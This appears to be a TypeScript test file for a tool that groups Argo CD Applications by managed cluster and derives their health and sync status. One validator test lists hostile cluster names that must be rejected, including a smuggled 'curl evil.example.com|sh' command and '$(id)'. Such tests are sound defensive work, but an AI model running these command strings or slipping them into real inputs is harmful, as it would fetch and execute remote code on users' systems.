import assert from 'node:assert/strict';
import {test} from 'node:test';
import {Fields, fields} from '../../src/fields';
import {clusterPath, hubOf, isClusterName, mapInParallel, onCluster, pathOf, unread} from '../../src/hub';
import {application, hubApplications, resource} from '../samples';

const names = (applications: readonly Fields[] = []): unknown[] =>
    applications.map(({metadata}) => (metadata as Fields)['name']);

test('groups Applications by managed cluster, also those without works there', () => {
    const hub = hubOf({items: hubApplications(20)});
    assert.equal(hub.clusters.length, 20);
    assert.deepEqual(hub.clusters.slice(8, 11), ['cluster9', 'cluster10', 'cluster11']);
    assert.deepEqual(names(hub.byCluster.get('cluster2')), [
        'shop',
        'billing',
        'catalogue',
        'identity',
        'payments',
        'search',
        'edge',
        'refused',
    ]);
    assert.deepEqual(names(hub.byCluster.get('cluster3')), ['shop', 'refused']);
    assert.equal(hub.placed, 1);
});

test('a link cannot make a command to copy', () => {
    for (const name of ['cluster1', 'eu-1.example.com', 'a']) assert.ok(isClusterName(name), name);
    for (const text of ['a; curl evil.example.com|sh', '$(id)', 'a b', '-a', 'a\n', 'A', '', 'a'.repeat(254)])
        assert.ok(!isClusterName(text), text);
});

test('an Application is on a cluster with the worst of its works there, and links to them', () => {
    const [shop = {}, , , , payments = {}] = hubApplications();
    const actual = onCluster(shop, 'cluster2');
    assert.deepEqual(
        [actual.id, actual.health, actual.sync, actual.works.length, actual.hold, actual.unreachable],
        ['argocd/shop', 'Degraded', 'Synced', 1, 'on hold until 2026-06-02T06:00:00Z: storage migration', false],
    );
    assert.match(actual.message, /^Deployment shop\/web: /);
    assert.deepEqual([onCluster(shop, 'cluster12').unreachable, onCluster(shop, 'cluster1').message], [true, '']);
    const inPart = onCluster(payments, 'cluster2');
    assert.deepEqual([inPart.health, inPart.sync, inPart.project], ['Progressing', 'OutOfSync', 'data']);
    assert.deepEqual(
        inPart.works.map(({name}) => name),
        ['payments', 'payments.part-wave2'],
    );
});

test('an Application without works has the health of the pull model, or the reason', () => {
    const [edge = {}, refused = {}] = hubApplications().slice(6);
    const state = (of: Fields): unknown[] => {
        const {health, sync, message, works} = onCluster(of, 'cluster2');
        return [health, sync, message, works.length];
    };
    assert.deepEqual(state(edge), ['Suspended', 'OutOfSync', 'it is paused', 0]);
    assert.deepEqual(state(refused), [
        'Missing',
        'Unknown',
        'ComparisonError: the policy does not allow Deployments',
        0,
    ]);
    assert.deepEqual(state({}), ['Waiting', '', 'It has no work on the cluster yet.', 0]);
    const pulled = (status: Fields): unknown => state({...edge, status})[0];
    assert.equal(pulled({}), 'Waiting');
    assert.equal(pulled({health: {status: 'Healthy'}, conditions: [{type: 'ComparisonError'}]}), 'Degraded');
    assert.deepEqual(unread(edge, new Error('permission denied')).message, 'permission denied');
});

test('a healthy Application with an error of Argo CD is degraded', () => {
    const health = (type: string): string =>
        onCluster(application([resource('eu1', 'Healthy')], [{type, message: 'why'}]), 'eu1').health;
    assert.equal(health('ComparisonError'), 'Degraded');
    assert.equal(health('ManifestWorkApplyError'), 'Healthy');
});

test('a healthy Application whose hydration or sync failed is degraded, also without a condition', () => {
    const of = (spec: Fields, status: Fields, cluster = 'eu1'): string => {
        const outOfSync = {status: 'OutOfSync'};
        const shop = application([resource('eu1', 'Healthy', '', outOfSync), resource('eu2', 'Healthy')]);
        const {health, message} = onCluster({...shop, spec, status: {...fields(shop['status']), ...status}}, cluster);
        return `${health} ${message}`;
    };
    const hydration = {sourceHydrator: {currentOperation: {phase: 'Failed', message: 'the policy refuses it'}}};
    assert.equal(of({sourceHydrator: {}}, hydration), 'Degraded HydrationError: the policy refuses it');
    assert.equal(of({}, hydration), 'Healthy ', 'it has left the hydrator');
    const sync = (phase: string, status: string): Fields => ({
        sync: {status},
        operationState: {phase, message: 'eu1 is on hold'},
    });
    for (const phase of ['Failed', 'Error'])
        assert.equal(of({}, sync(phase, 'OutOfSync')), 'Degraded SyncError: eu1 is on hold');
    assert.equal(of({}, sync('Failed', 'OutOfSync'), 'eu2'), 'Healthy ', 'it is synced there');
    const pruned = resource('eu2', 'Healthy', '', {name: 'shop.part-a', status: 'OutOfSync', requiresPruning: true});
    const left = {...sync('Failed', 'OutOfSync'), resources: [resource('eu2', 'Healthy'), pruned]};
    assert.equal(of({}, left, 'eu2'), 'Degraded SyncError: eu1 is on hold', 'a work there is not removed');
    assert.equal(of({}, sync('Failed', 'Synced')), 'Healthy ', 'a later commit is what the last sync delivered');
    assert.equal(of({}, sync('Succeeded', 'OutOfSync')), 'Healthy ');
});

// The agent of a cluster may write the mark of an Application on works of others there.
test('a work that would be pruned counts only after a failed comparison, and with the name of the Application', () => {
    const plugin = {parameters: [{name: 'name', string: 'front'}], env: [{name: 'NAME', value: 'back'}]};
    const pruned = (name: string, status: string): Fields => ({
        ...application([resource('eu1', 'Healthy', '', {name, status, requiresPruning: true})]),
        spec: {sources: [{plugin}]},
    });
    const isOn = (of: Fields): boolean => hubOf({items: [of]}).byCluster.has('eu1');
    for (const [name, status, expected] of [
        ['shop', 'OutOfSync', false],
        ['shop', 'Unknown', true],
        ['shop.part-wave2', 'Unknown', true],
        ['argocd.shop.x0', 'Unknown', true],
        ['front', 'Unknown', true],
        ['front.part-wave2', 'Unknown', true],
        ['shop.front.p0', 'Unknown', true],
        ['back', 'Unknown', false],
        ['shopping', 'Unknown', false],
        ['other', 'Unknown', false],
    ] as const) {
        assert.equal(isOn(pruned(name, status)), expected, `${name} ${status}`);
        assert.equal(onCluster(pruned(name, status), 'eu1').works.length, expected ? 1 : 0);
    }
});

test('answers may have any content', () => {
    for (const answer of [
        {},
        {items: null},
        {items: 3},
        {items: [null, 7, {}, {status: {resources: [null, {group: 1}]}}]},
    ])
        assert.deepEqual([hubOf(answer).clusters, hubOf(answer).placed], [[], 0]);
    const hostile = application([resource('__proto__', 'Healthy'), resource('', 'Healthy')]);
    assert.deepEqual(hubOf({items: [hostile]}).clusters, ['__proto__']);
    assert.equal(clusterPath('a&b=c'), 'managed-clusters?cluster=a%26b%3Dc');
    assert.equal(
        pathOf({metadata: {name: '../x', namespace: 'team'}, spec: {project: 'a b'}}),
        'applications/..%2Fx?appNamespace=team&project=a+b',
    );
});

test('runs a few at a time, and keeps the order', async () => {
    let running = 0;
    let most = 0;
    const run = async (item: number): Promise<number> => {
        most = Math.max(most, ++running);
        await new Promise(done => setImmediate(done));
        running--;
        return item * 2;
    };
    assert.deepEqual(
        await mapInParallel([...Array(20).keys()], run),
        [...Array(20).keys()].map(item => item * 2),
    );
    assert.equal(most, 6);
    assert.deepEqual(await mapInParallel([], run), []);
});
